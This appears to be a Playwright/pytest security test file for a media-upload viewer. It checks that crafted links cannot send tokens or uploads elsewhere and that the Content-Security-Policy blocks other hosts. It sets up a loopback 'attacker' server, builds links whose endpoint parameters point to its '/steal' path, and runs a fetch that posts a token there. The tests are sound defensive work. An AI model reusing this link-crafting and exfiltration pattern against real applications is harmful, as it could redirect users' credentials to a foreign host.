"""A crafted link cannot point the viewer anywhere: its endpoints come from config.json only, and
the Content-Security-Policy both servers send lets it connect to no other host. An "attacker" is a
server on another loopback port that records what reaches it and would accept anything."""

from __future__ import annotations

import threading
import urllib.parse
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest
from playwright.sync_api import Browser, Page, expect

from stack.local import UPLOAD_TARGET, LocalStack
from stack.services import HOST, free_port
from stack.web import Viewer
from tests.web.conftest import PRODUCTION, SAMPLES, Tab

pytestmark = [pytest.mark.emulator, pytest.mark.browser]


class Attacker:
    """A foreign host that answers every request (CORS included) and keeps what it got."""

    def __init__(self) -> None:
        self.received: list[tuple[str, str, dict[str, str]]] = []
        received = self.received

        class Handler(BaseHTTPRequestHandler):
            def _any(self) -> None:
                received.append((self.command, self.path, dict(self.headers.items())))
                self.send_response(200)
                self.send_header("Access-Control-Allow-Origin", "*")
                self.send_header("Access-Control-Allow-Headers", "authorization, content-type")
                self.send_header("Access-Control-Allow-Methods", "GET, POST, PUT")
                self.send_header("Content-Length", "2")
                self.end_headers()
                self.wfile.write(b"{}")

            do_GET = do_POST = do_PUT = do_OPTIONS = _any

            def log_message(self, format: str, *args: Any) -> None:
                pass

        self.server = ThreadingHTTPServer((HOST, free_port()), Handler)
        self.host = f"{HOST}:{self.server.server_address[1]}"
        self.url = f"http://{self.host}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def link(self, viewer_origin: str, uid: str) -> str:
        """The viewer's URL with every endpoint parameter pointing here."""
        query = {
            "uid": uid,
            "uploads": f"{self.url}/steal",
            "deletion": f"{self.url}/steal",
            "emulator": self.host,
            "auth": self.host,
            "storage": self.url,
            "project": "attacker-project",
        }
        return f"{viewer_origin}/?{urllib.parse.urlencode(query)}"


@pytest.fixture
def attacker() -> Iterator[Attacker]:
    server = Attacker()
    yield server
    server.server.shutdown()
    server.server.server_close()


def sent(page: Page) -> list[str]:
    """The URLs of every request the page makes, recorded from now on."""
    urls: list[str] = []
    page.on("request", lambda request: urls.append(request.url))
    return urls


def test_a_crafted_link_sends_nothing_to_its_host_and_the_upload_still_works(
    open_viewer: Callable[..., Tab],
    uid: Callable[[str], str],
    local: LocalStack,
    attacker: Attacker,
) -> None:
    assert local.viewer is not None
    frank = uid("frank")
    tab = open_viewer(None)
    requests = sent(tab.page)
    tab.page.goto(attacker.link(local.viewer.origin, frank))
    expect(tab.page.get_by_text(f"Signed in as {frank}")).to_be_visible()
    expect(tab.page.get_by_text("Nothing yet")).to_be_visible()
    tab.page.get_by_label("Upload media").set_input_files(str(SAMPLES / "interview.mp4"))
    tab.page.get_by_role("button", name="Upload", exact=True).click()
    expect(tab.page.get_by_role("status")).to_contain_text("Uploaded interview.mp4")
    item = tab.page.locator("li.doc", has_text="interview.mp4")
    expect(item.locator(".badge")).to_have_text("completed", timeout=60_000)

    assert attacker.received == []
    assert not [url for url in requests if url.startswith(attacker.url)], requests
    assert local.url(UPLOAD_TARGET) in requests  # the token went to the configured function
    assert not tab.crashes and not [c for c in tab.console if c.startswith("error")], tab


def test_in_production_a_crafted_link_changes_nothing(browser: Browser, attacker: Attacker) -> None:
    viewer = Viewer({**PRODUCTION, "uploads": "https://uploads.example.test/"})
    viewer.start()
    page = browser.new_page()
    try:
        requests = sent(page)
        page.goto(attacker.link(viewer.origin, "victim"))
        expect(page.get_by_role("button", name="Sign in with Google")).to_be_visible()
        assert page.evaluate("window.tabscribe.reads.documents") == 0
        assert attacker.received == []
        assert all(url.startswith(viewer.origin) for url in requests), requests
    finally:
        page.close()
        viewer.stop()


def test_the_policy_refuses_connections_to_other_hosts(
    open_viewer: Callable[..., Tab], uid: Callable[[str], str], attacker: Attacker
) -> None:
    tab = open_viewer(uid("grace"))
    expect(tab.page.get_by_text("Nothing yet")).to_be_visible()
    outcome = tab.page.evaluate(
        """async (url) => {
            const refused = new Promise((resolve) =>
                document.addEventListener("securitypolicyviolation", (e) =>
                    resolve(e.violatedDirective), { once: true }));
            try {
                await fetch(url, { method: "POST", body: "token" });
                return "sent";
            } catch {
                return await refused;
            }
        }""",
        f"{attacker.url}/steal",
    )
    assert outcome == "connect-src" and attacker.received == []
